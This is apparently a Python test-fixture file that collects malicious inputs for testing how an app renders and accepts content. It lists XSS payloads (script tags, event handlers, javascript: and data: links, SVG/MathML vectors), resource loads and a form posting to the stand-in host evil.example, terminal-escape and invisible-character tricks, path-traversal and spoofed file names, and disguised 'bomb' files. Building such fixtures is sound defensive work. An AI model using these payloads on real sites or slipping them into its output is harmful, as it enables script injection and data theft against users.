"""Fifty texts that try to run, to be fetched, or to break the layout, and names of files likewise.

Each may stand in a document or in a model's answer. Whatever runs sets ``window.hit``; whatever is
fetched comes from ``evil.example``.
"""

from __future__ import annotations

TEXTS = [
    # Scripts.
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=http://evil.example/1.js></SCRIPT>",
    "<scr<script>ipt>window.hit=2</scr</script>ipt>",
    "</textarea></title></style><script>window.hit=3</script>",
    "<!--><script>window.hit=4</script-->",
    "<template><script>window.hit=5</script></template>",
    # Handlers of events.
    "<img src=x onerror=window.hit=6>",
    '<img src="http://evil.example/7.png" onload="window.hit=7">',
    "<body onload=window.hit=8>",
    "<input autofocus onfocus=window.hit=9>",
    "<details open ontoggle=window.hit=10><summary>x</summary></details>",
    "<marquee onstart=window.hit=11>moving</marquee>",
    "<video><source onerror=window.hit=12></video>",
    "<a href=# onmouseover=window.hit=13>over me</a>",
    # Links that run.
    "[click](javascript:window.hit=14)",
    "[click](JaVaScRiPt:window.hit=15)",
    "[click](data:text/html,<script>window.hit=16</script>)",
    "<javascript:window.hit=17>",
    "[ref][1]\n\n[1]: javascript:window.hit=18",
    "<a href='java\tscript:window.hit=19'>tab</a>",
    "[1](http://evil.example/citation) and [2][http://evil.example]",
    # Pictures, frames and styles from elsewhere.
    "![picture](http://evil.example/22.png)",
    "![][pic]\n\n[pic]: http://evil.example/23.png",
    "<iframe src=http://evil.example/24.html></iframe>",
    "<object data=http://evil.example/25.swf></object><embed src=http://evil.example/25.swf>",
    "<link rel=stylesheet href=http://evil.example/26.css>",
    "<style>@import 'http://evil.example/27.css'; body { display: none }</style>",
    '<div style="background:url(http://evil.example/28.png);position:fixed;inset:0">over all</div>',
    "<meta http-equiv=refresh content='0;url=http://evil.example/29'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/31><button>Send</button></form>",
    # SVG and MathML.
    "<svg onload=window.hit=32>",
    "<svg><script href=http://evil.example/33.js /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit=34</script>'></iframe></foreignObject>",
    "<math><mtext><img src=x onerror=window.hit=35></mtext></math>",
    # Tags and fences that are never closed.
    "<div><div><div><table><tr><td>unclosed",
    "<!-- a comment without an end",
    "**bold without an end [1",
    # Markup of other kinds.
    r"$$\href{javascript:window.hit=39}{x}$$ and $\frac{a}{b}$ and \[ x^2 \]",
    r"$\unicode{x202e}\rule{9999em}{9999em}\includegraphics{http://evil.example/40.png}$",
    ":red[red] :material/delete: :smile: :blue-background[Streamlit's own marks]",
    "| a | b |\n|---|---|\n" + "| " + "wide" * 300 + " | cell |",
    "{{7*7}} ${window.hit=43} <%= 43 %> {% raw %}",
    # Terminals.
    "\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;http://evil.example/44\x07link\x1b]8;;\x07",
    "\x9b31m \x1bP\x1b\\ \x07 \x08\x08\x08 \r overwritten",
    # Directions, and signs that are not seen.
    "\u202egnp.exe\u202c and \u2066\u2067\u2068 isolates",
    "שלום עולם (abc) 123 \u200fمرحبا بالعالم\u200e",
    "Z\u0351\u036b\u0343\u036a\u0342a\u036b\u033f\u0351\u035cl\u034b\u033fgo" + "\u0301" * 200,
    "zero\u200b\u200c\u200d\u2060\ufeffwidth \ufff9notes\ufffb \ue000 0\ue001 \ua8ce0\ua8cf",
    # Sizes.
    "long" * 25_000,
]  # fmt: skip

NAMES = [
    "<img src=x onerror=window.hit=101>.md",
    "<svg onload=window.hit=102>.txt",
    "..\\..\\windows\\system32\\evil.md",
    "../../../../etc/cron.d/evil.md",
    "\u202edm.evil.md",
    "$x$ `code` :red[name] **bold**.md",
    "[link](http:evil.example).md",
    "CON.md",
    "\x1b[31mred.md",
    "n" * 300 + ".md",
]
"""Names of files, as a browser may say them."""

BOMBS = [
    ("bomb.zip", b"PK\x03\x04" + b"\0" * 40),
    ("bomb.docx", b"PK\x05\x06" + b"\0" * 18),
    ("page.svg", b"<svg onload=window.hit=103>"),
    ("program.pdf", b"MZ\x90\0"),
]
"""Files that are refused."""
